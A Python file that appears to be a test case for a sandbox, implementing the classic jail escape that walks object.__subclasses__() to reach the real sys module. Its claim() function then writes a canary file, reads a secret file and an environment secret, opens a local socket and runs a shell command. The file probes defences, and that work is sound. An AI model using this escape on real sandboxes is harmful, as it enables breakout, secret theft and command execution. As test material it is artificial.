"""The subclass walk through the method resolution order.

Source: classic Python-jail walk (PyJail CTF write-ups; the RestrictedPython
test suite's refusal of dunder attributes).
Tries: from an int's class through its mro to object, then every subclass
to one whose initialiser's globals hold sys.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

def jail_subclass_walk_mro() -> dict:
    root = (1).__class__.__mro__[-1]
    for klass in root.__subclasses__():
        globals_of = getattr(klass.__init__, "__globals__", None)
        if globals_of and "sys" in globals_of:
            return claim_namespace(globals_of)
    return {}


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
